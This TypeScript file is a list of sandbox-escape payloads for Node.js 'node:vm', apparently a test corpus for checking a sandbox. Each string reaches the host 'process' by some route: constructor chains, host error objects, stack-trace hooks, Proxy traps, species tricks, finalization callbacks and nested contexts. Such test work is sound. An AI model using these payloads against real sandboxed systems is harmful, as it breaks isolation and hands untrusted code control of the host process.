/** Ways out of `node:vm` to the host's `process`. They all succeed or fail there; what counts is what they can do with it. */
import { escaping, type Payload } from '../payload.ts';

const chain = `.constructor.constructor('return process')()`;
/** The first thrown or returned thing that a function of the host made. */
const caught = (code: string) =>
  `(() => { try { ${code} } catch (error) { return (error as any)${chain}; } })()`;

export const escapes: Payload[] = [
  escaping('global-this', 'the `process` that evaluated code sees anyhow', 'process'),
  escaping('constructor-of-this', 'the constructor of the global object', `(globalThis as any)${chain}`),
  escaping(
    'constructor-of-console',
    'a function of the host',
    `(console.log as any).constructor('return process')()`,
  ),
  escaping(
    'constructor-of-timer-function',
    'setTimeout of the host',
    `(setTimeout as any).constructor('return process')()`,
  ),
  escaping(
    'constructor-of-timeout',
    'the object that a timer is',
    `(setTimeout(() => {}, 0) as any)${chain}`,
  ),
  escaping(
    'constructor-of-url',
    'a class that is no part of the language',
    `(new URL('a:b') as any)${chain}`,
  ),
  escaping('constructor-of-buffer', 'the class Buffer', `(Buffer as any).constructor('return process')()`),
  escaping('constructor-of-event', 'an event target', `(new EventTarget() as any)${chain}`),
  escaping(
    'constructor-of-require',
    'the function require',
    `(require as any).constructor('return process')()`,
  ),
  escaping('constructor-of-arguments', 'the array of call arguments', `(require.resolve as any)${chain}`),
  escaping(
    'constructor-of-async-function',
    'the hidden constructor of async functions',
    `(async () => {}).constructor('return process')()`,
  ),
  escaping(
    'constructor-of-generator',
    'the hidden constructor of generators',
    `(Object.getPrototypeOf(function* () {}).constructor('yield process') as any)().next().value`,
  ),
  escaping(
    'error-of-import',
    'what a failed import() throws',
    `import('./nowhere.ts').catch((error: any) => error${chain})`,
  ),
  escaping('error-of-require', 'what a failed require throws', caught(`return require('nowhere-at-all');`)),
  escaping(
    'error-of-host-function',
    'what a function of the host throws',
    caught(`return new URL('no url');`),
  ),
  escaping(
    'error-of-overflow',
    'a stack overflow inside of a function of the host',
    `(() => {
      const deep = (): any => { try { Buffer.from('a'); return deep(); } catch (error) { return error; } };
      return deep()${chain};
    })()`,
  ),
  escaping(
    'prepare-stack-trace',
    'the call sites of a stack, down to functions of the host',
    `(() => {
      (Error as any).prepareStackTrace = (_: unknown, sites: any[]) => sites;
      const sites = new Error().stack as any;
      const [found] = sites.map((site: any) => site.getThis?.() ?? site.getFunction?.()).filter(Boolean);
      return found${chain};
    })()`,
  ),
  escaping(
    'prepare-stack-trace-of-host',
    'a formatter of stacks that the host calls for its own errors',
    `new Promise((resolve) => {
      const HostError = (process as any).getBuiltinModule('node:vm').runInThisContext('Error');
      HostError.prepareStackTrace = (error: any) => { resolve(error${chain}); return ''; };
      try { new URL('no url'); } catch (error) { String((error as any).stack); }
    })`,
  ),
  escaping(
    'proxy-trap',
    'a trap that the host springs with an object of its own',
    `new Promise((resolve) => {
      const trap = new Proxy(() => {}, { apply: (_target, self) => resolve(self${chain}) });
      setTimeout(trap, 0);
    })`,
  ),
  escaping(
    'thenable',
    'the resolve function that the host hands to a thenable',
    `new Promise((done) => {
      const then = (resolve: any) => done(resolve.constructor('return process')());
      process.getBuiltinModule('node:timers/promises').setTimeout(0).then(() => ({ then }));
    })`,
  ),
  escaping(
    'promise-species',
    'a subclass of Promise that the host derives from',
    `(() => {
      let made: any;
      class Loot extends Promise<unknown> {
        static override get [Symbol.species]() { return function (run: any) { made = run; return new Promise(run); } as any; }
      }
      Loot.resolve(1).then(() => {});
      return made${chain};
    })()`,
  ),
  escaping(
    'array-species',
    'an array whose species the host constructs',
    `(() => {
      const list: any = [1, 2];
      list.constructor = { [Symbol.species]: function () { return (process as any).argv; } };
      return list.map((one: any) => one)${chain};
    })()`,
  ),
  escaping(
    'callee-caller',
    'the functions that called this one',
    `new Function('let at = arguments.callee; while (at.caller) at = at.caller; return at.constructor("return process")()')()`,
  ),
  escaping(
    'weak-reference',
    'an object of the host behind a WeakRef',
    `(new WeakRef(console) as any).deref()${chain}`,
  ),
  escaping(
    'finalization',
    'a callback that the host runs when something is collected',
    `new Promise((resolve) => {
      const registry = new FinalizationRegistry(() => resolve(process));
      (globalThis as any).kept = registry;
      (() => registry.register({}, 1))();
      process.getBuiltinModule('node:v8').setFlagsFromString('--expose-gc');
      const gc = process.getBuiltinModule('node:vm').runInNewContext('gc');
      setTimeout(() => { gc(); setTimeout(() => {}, 50); }, 10);
    })`,
  ),
  escaping(
    'structured-clone',
    'a copy that the host makes',
    `(structuredClone(new Error('copied')) as any)${chain}`,
  ),
  escaping(
    'main-module',
    'the constructor of the main module',
    `(process.mainModule as any ?? new (require('node:module'))('x')).constructor._load('node:process')`,
  ),
  escaping(
    'fresh-context',
    'a context inside of the context',
    `process.getBuiltinModule('node:vm').runInThisContext('process')`,
  ),
];
